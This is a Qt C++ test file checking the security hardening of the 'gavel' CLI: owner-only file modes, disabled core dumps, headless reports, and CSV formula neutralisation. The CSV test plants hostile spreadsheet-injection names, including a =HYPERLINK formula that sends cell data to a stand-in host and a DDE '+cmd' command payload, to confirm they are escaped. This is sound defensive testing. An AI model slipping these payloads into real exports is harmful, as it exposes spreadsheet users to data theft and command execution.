// The process-level hardening of `gavel` (docs/security.md): no core dumps and owner-only
// files in every command's process, the database and its WAL created 0600, exports and reports
// 0600 in 0700 folders, `gavel report` without a display, CLI CSV output neutralised against
// spreadsheet formulas with numbers kept as numbers, and `gavel scores` on every shipped policy
// (a crash after printing its rows was reported on a ~400-member store).

#include "../../app/Cli.h"
#include "SnapshotStore.h"
#include "TestPaths.h"
#include "demoguild/DemoGuild.h"
#include "report/Csv.h"
#include "store/Database.h"
#include "store/Location.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QtTest>

#include <sys/stat.h>

using namespace Qt::StringLiterals;
using namespace gavel;

namespace {

struct Run
{
    QProcess::ExitStatus status = QProcess::NormalExit;
    int exit = -1;
    QString out;
    QString err;
};

Run gavelRun(const QStringList &args,
             const QProcessEnvironment &env = QProcessEnvironment::systemEnvironment())
{
    QProcess p;
    p.setProcessEnvironment(env);
    p.start(test::gavelBinary(), args);
    if (!p.waitForFinished(180000))
        qFatal("gavel %s did not finish", qPrintable(args.join(u' ')));
    return {p.exitStatus(), p.exitCode(), QString::fromUtf8(p.readAllStandardOutput()),
            QString::fromUtf8(p.readAllStandardError())};
}

//! The permission bits of a file (0 when it does not exist).
unsigned modeOf(const QString &path)
{
    struct stat st
    {};
    if (::stat(QFile::encodeName(path).constData(), &st) != 0)
        return 0;
    return unsigned(st.st_mode) & 07777u;
}

QString octal(unsigned mode)
{
    return u"0"_s + QString::number(mode, 8);
}

//! The line of a /proc file that starts with `key`, or an empty string.
QString procLine(qint64 pid, const QString &file, const QString &key)
{
    QFile f(u"/proc/%1/%2"_s.arg(pid).arg(file));
    if (!f.open(QIODevice::ReadOnly))
        return {};
    for (const QByteArray &line : f.readAll().split('\n')) {
        if (line.startsWith(key.toUtf8()))
            return QString::fromUtf8(line);
    }
    return {};
}

QString policyFile(const QString &name)
{
    return test::sourceDir() + u"/resources/policies/"_s + name + u".json"_s;
}

} // namespace

class TestHardening : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void processIsHardened_data();
    void processIsHardened();
    void databaseAndWalAreOwnerOnly();
    void exportsAndReportsAreOwnerOnly();
    void reportWithoutDisplay();
    void guiWithoutDisplaySaysSo();
    void scoresOnEveryShippedPolicy();
    void plainNumbers_data();
    void plainNumbers();
    void csvNeutralisesFormulas();

private:
    QTemporaryDir m_dir;
    QString m_db;
    QString m_member; //!< a member with reactions, for export and report
};

void TestHardening::initTestCase()
{
    QVERIFY(QFileInfo::exists(test::gavelBinary()));
    QVERIFY(m_dir.isValid());
    // The usual umask: without gavel's own, everything it writes would be 0644.
    ::umask(022);
    demoguild::Options o;
    o.members = 400;
    o.messages = 8000;
    const QString snapshot = m_dir.filePath(u"demo.json"_s);
    QVERIFY(demoguild::generate(o, snapshot).ok());
    m_db = m_dir.filePath(u"g.db"_s);
    auto db = store::Database::open(store::Location::sqliteFile(m_db));
    QVERIFY(db.ok());
    QVERIFY(test::loadSnapshotIntoStore(snapshot, **db, QDateTime::currentMSecsSinceEpoch()).ok());
    db->reset();
    const Run pairs = gavelRun({u"pairs"_s, u"--db"_s, m_db});
    QVERIFY2(pairs.exit == 0, qPrintable(pairs.err));
    m_member = pairs.out.section(u'\n', 1, 1).section(u',', 0, 0);
    QVERIFY2(!m_member.isEmpty(), qPrintable(pairs.out.left(500)));
}

void TestHardening::processIsHardened_data()
{
    QTest::addColumn<bool>("allowCoreDumps");
    QTest::newRow("default") << false;
    QTest::newRow("GAVEL_ALLOW_CORE_DUMPS=1") << true;
}

// A real, waiting gavel process (the emulator): its umask and core limit read from /proc, and
// PR_GET_DUMPABLE (which /proc does not show) as the process itself reports it.
void TestHardening::processIsHardened()
{
    QFETCH(bool, allowCoreDumps);
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(u"GAVEL_PRINT_HARDENING"_s, u"1"_s);
    if (allowCoreDumps)
        env.insert(u"GAVEL_ALLOW_CORE_DUMPS"_s, u"1"_s);
    else
        env.remove(u"GAVEL_ALLOW_CORE_DUMPS"_s);
    QProcess p;
    p.setProcessEnvironment(env);
    p.start(test::gavelBinary(), {u"emulate"_s, u"--snapshot"_s,
                                  test::sourceDir() + u"/tests/contract/fixtures/edge-guild.json"_s,
                                  u"--port"_s, u"0"_s, u"--token"_s, u"hardening-token"_s});
    QVERIFY(p.waitForStarted());
    QByteArray out;
    QTRY_VERIFY_WITH_TIMEOUT((out += p.readAllStandardOutput()).contains("listening on"), 20000);
    const qint64 pid = p.processId();
    const QString umask = procLine(pid, u"status"_s, u"Umask:"_s);
    const QString core = procLine(pid, u"limits"_s, u"Max core file size"_s);
    p.kill();
    p.waitForFinished();
    const QString err = QString::fromUtf8(p.readAllStandardError());

    QVERIFY2(umask.simplified() == u"Umask: 0077"_s, qPrintable(umask));
    QVERIFY2(err.contains(u"umask=0077"_s), qPrintable(err));
    if (allowCoreDumps) {
        QVERIFY2(err.contains(u"gavel: hardening: dumpable=1 "_s), qPrintable(err));
    } else {
        QVERIFY2(err.contains(u"gavel: hardening: dumpable=0 core-limit=0 umask=0077"_s),
                 qPrintable(err));
        const QStringList fields = core.simplified().split(u' ');
        // "Max core file size 0 0 bytes": soft and hard limit.
        QVERIFY2(fields.size() >= 6 && fields[4] == u"0"_s && fields[5] == u"0"_s,
                 qPrintable(core));
    }
}

// Opened by the library in this process (umask 022): the file is created 0600 all the same,
// and SQLite gives the WAL and the shared-memory index the database's mode.
void TestHardening::databaseAndWalAreOwnerOnly()
{
    const QString path = m_dir.filePath(u"wal.db"_s);
    auto db = store::Database::open(store::Location::sqliteFile(path));
    QVERIFY(db.ok());
    QVERIFY((*db)->exec(u"CREATE TABLE hardening_probe (x INTEGER)"_s).ok());
    QVERIFY((*db)->exec(u"INSERT INTO hardening_probe VALUES (?)"_s, {42}).ok());
    QVERIFY(QFileInfo::exists(path + u"-wal"_s));
    for (const QString &file : QStringList{path, path + u"-wal"_s, path + u"-shm"_s})
        QCOMPARE(octal(modeOf(file)), u"0600"_s);
}

void TestHardening::exportsAndReportsAreOwnerOnly()
{
    const QString out = m_dir.filePath(u"out"_s);
    QVERIFY(QDir().mkpath(out));
    const QString scores = out + u"/scores.csv"_s;
    const QString pairs = out + u"/pairs.csv"_s;
    const QString package = out + u"/evidence"_s;
    const QString report = out + u"/report.html"_s;
    const QList<QStringList> runs{
        {u"scores"_s, u"--db"_s, m_db, u"--policy"_s, policyFile(u"daimyo"_s), u"--out"_s, scores},
        {u"pairs"_s, u"--db"_s, m_db, u"--out"_s, pairs},
        {u"export"_s, u"evidence"_s, u"--db"_s, m_db, u"--user"_s, m_member, u"--out"_s, package},
        {u"report"_s, u"--db"_s, m_db, u"--user"_s, m_member, u"--out"_s, report},
    };
    for (const QStringList &args : runs) {
        const Run r = gavelRun(args);
        QVERIFY2(r.exit == 0, qPrintable(args.join(u' ') + u": "_s + r.err));
    }
    QCOMPARE(octal(modeOf(scores)), u"0600"_s);
    QCOMPARE(octal(modeOf(pairs)), u"0600"_s);
    QCOMPARE(octal(modeOf(report)), u"0600"_s);
    QCOMPARE(octal(modeOf(package)), u"0700"_s);
    int files = 0;
    for (const QString &dir : QStringList{package, out + u"/report-evidence"_s}) {
        QDirIterator it(dir, QDir::Files | QDir::Dirs | QDir::NoDotAndDotDot,
                        QDirIterator::Subdirectories);
        while (it.hasNext()) {
            const QString path = it.next();
            const bool folder = QFileInfo(path).isDir();
            QVERIFY2(modeOf(path) == (folder ? 0700u : 0600u),
                     qPrintable(path + u": "_s + octal(modeOf(path))));
            files += folder ? 0 : 1;
        }
    }
    QVERIFY2(files >= 8, "the evidence packages hold the files checked");
}

// Over ssh or in CI: no DISPLAY, no WAYLAND_DISPLAY, no QT_QPA_PLATFORM (tests set offscreen).
void TestHardening::reportWithoutDisplay()
{
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    for (const QString &name : {u"DISPLAY"_s, u"WAYLAND_DISPLAY"_s, u"QT_QPA_PLATFORM"_s})
        env.remove(name);
    const QString pdf = m_dir.filePath(u"headless.pdf"_s);
    const Run r =
        gavelRun({u"report"_s, u"--db"_s, m_db, u"--user"_s, m_member, u"--out"_s, pdf}, env);
    QCOMPARE(r.status, QProcess::NormalExit);
    QVERIFY2(r.exit == 0, qPrintable(r.err));
    QFile f(pdf);
    QVERIFY(f.open(QIODevice::ReadOnly));
    QVERIFY(f.read(5) == "%PDF-");
    QVERIFY(f.size() > 10000);
}

void TestHardening::guiWithoutDisplaySaysSo()
{
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    for (const QString &name : {u"DISPLAY"_s, u"WAYLAND_DISPLAY"_s, u"QT_QPA_PLATFORM"_s})
        env.remove(name);
    const Run r = gavelRun({u"--db"_s, m_db}, env);
    QCOMPARE(r.status, QProcess::NormalExit);
    QCOMPARE(r.exit, 1);
    QVERIFY2(r.err.startsWith(u"gavel gui: no display"_s), qPrintable(r.err));
}

void TestHardening::scoresOnEveryShippedPolicy()
{
    const QStringList policies =
        QDir(test::sourceDir() + u"/resources/policies"_s).entryList({u"*.json"_s}, QDir::Files);
    int tried = 0;
    for (const QString &file : policies) {
        if (file == u"policy.schema.json")
            continue;
        const QString path = test::sourceDir() + u"/resources/policies/"_s + file;
        for (const QString &format : {u"csv"_s, u"json"_s}) {
            const Run r = gavelRun(
                {u"scores"_s, u"--db"_s, m_db, u"--policy"_s, path, u"--format"_s, format});
            const QString what = file + u" " + format + u": "_s;
            QVERIFY2(r.status == QProcess::NormalExit, qPrintable(what + u"crashed"_s));
            QVERIFY2(r.exit == 0, qPrintable(what + r.err));
            QVERIFY2(r.err.isEmpty(), qPrintable(what + r.err));
            if (format == u"csv") {
                const auto rows = report::csv::parse(r.out);
                QVERIFY2(rows.size() > 300, qPrintable(what + QString::number(rows.size())));
                for (const QStringList &row : rows)
                    QCOMPARE(row.size(), rows.first().size());
            } else {
                QJsonParseError error{};
                const QJsonObject root = QJsonDocument::fromJson(r.out.toUtf8(), &error).object();
                QVERIFY2(error.error == QJsonParseError::NoError, qPrintable(what));
                QCOMPARE(root[u"format"_s].toString(), u"gavel-scores/1"_s);
                QVERIFY(root[u"members"_s].toArray().size() > 300);
            }
        }
        ++tried;
    }
    QVERIFY(tried >= 4);
}

void TestHardening::plainNumbers_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("cell");
    QTest::newRow("integer") << u"42"_s << u"42"_s;
    QTest::newRow("negative") << u"-3"_s << u"-3"_s;
    QTest::newRow("fraction") << u"-0.2500"_s << u"-0.2500"_s;
    QTest::newRow("exponent") << u"1.5e-07"_s << u"1.5e-07"_s;
    QTest::newRow("formula") << u"-2+3"_s << u"'-2+3"_s;
    QTest::newRow("minus only") << u"-"_s << u"'-"_s;
    QTest::newRow("equals") << u"=1"_s << u"'=1"_s;
    QTest::newRow("at") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
    QTest::newRow("plus number") << u"+1"_s << u"'+1"_s;
    QTest::newRow("name") << u"Sensei"_s << u"Sensei"_s;
    QTest::newRow("comma") << u"a,b"_s << u"\"a,b\""_s;
    QTest::newRow("tab") << u"\t=1"_s << u"'\t=1"_s;
}

void TestHardening::plainNumbers()
{
    QFETCH(QString, text);
    QFETCH(QString, cell);
    QCOMPARE(cli::csvCell(text), cell);
    // Text columns neutralise even a number-looking name.
    if (text == u"-3")
        QCOMPARE(cli::csvText(text), u"'-3"_s);
}

// Hostile display names through `gavel scores`: each arrives as the same text with a leading
// apostrophe (a spreadsheet shows it, never runs it), quoted per RFC 4180; scores stay numbers.
void TestHardening::csvNeutralisesFormulas()
{
    const QString path = m_dir.filePath(u"hostile.db"_s);
    QVERIFY(QFile::copy(m_db, path));
    const Run before = gavelRun({u"scores"_s, u"--db"_s, path, u"--policy"_s,
                                 policyFile(u"daimyo"_s), u"--at"_s, u"2026-11-01"_s});
    QCOMPARE(before.exit, 0);
    const auto rows = report::csv::parse(before.out);
    QVERIFY(rows.size() > 4);
    const QStringList names{u"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"_s, u"-2+3"_s,
                            u"@SUM(A1:A9)"_s, u"+cmd|' /C calc'!A0"_s};
    QMap<QString, QString> hostile; // user id -> name
    {
        auto db = store::Database::open(store::Location::sqliteFile(path));
        QVERIFY(db.ok());
        for (int i = 0; i < names.size(); ++i) {
            const QString id = rows[i + 1][0];
            hostile.insert(id, names[i]);
            QVERIFY((*db)
                        ->exec(u"UPDATE users SET username = ? WHERE id = ?"_s,
                               {names[i], id.toLongLong()})
                        .ok());
        }
    }
    const Run r = gavelRun({u"scores"_s, u"--db"_s, path, u"--policy"_s, policyFile(u"daimyo"_s),
                            u"--at"_s, u"2026-11-01"_s});
    QVERIFY2(r.exit == 0, qPrintable(r.err));
    const auto after = report::csv::parse(r.out);
    const QStringList header = after.first();
    const qsizetype nameColumn = header.indexOf(u"username"_s);
    QVERIFY(nameColumn > 0);
    int seen = 0;
    for (const QStringList &row : after.mid(1)) {
        QCOMPARE(row.size(), header.size());
        bool number = false;
        row[1].toDouble(&number);
        QVERIFY2(number, qPrintable(row.join(u'|')));
        if (!hostile.contains(row[0]))
            continue;
        QCOMPARE(row[nameColumn], u"'"_s + hostile.value(row[0]));
        ++seen;
    }
    QCOMPARE(seen, int(hostile.size()));
    // The raw text: the quotes of the HYPERLINK name are doubled inside a quoted cell.
    QVERIFY(r.out.contains(u"\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\""_s));

    // JSON carries the names as they are (JSON is not run by spreadsheets).
    const Run j = gavelRun({u"scores"_s, u"--db"_s, path, u"--policy"_s, policyFile(u"daimyo"_s),
                            u"--at"_s, u"2026-11-01"_s, u"--format"_s, u"json"_s});
    QCOMPARE(j.exit, 0);
    int named = 0;
    for (const QJsonValue &m :
         QJsonDocument::fromJson(j.out.toUtf8()).object()[u"members"_s].toArray()) {
        const QJsonObject o = m.toObject();
        if (hostile.contains(o[u"user_id"_s].toString())) {
            QCOMPARE(o[u"username"_s].toString(), hostile.value(o[u"user_id"_s].toString()));
            ++named;
        }
    }
    QCOMPARE(named, int(hostile.size()));
}

QTEST_GUILESS_MAIN(TestHardening)
#include "tst_hardening.moc"
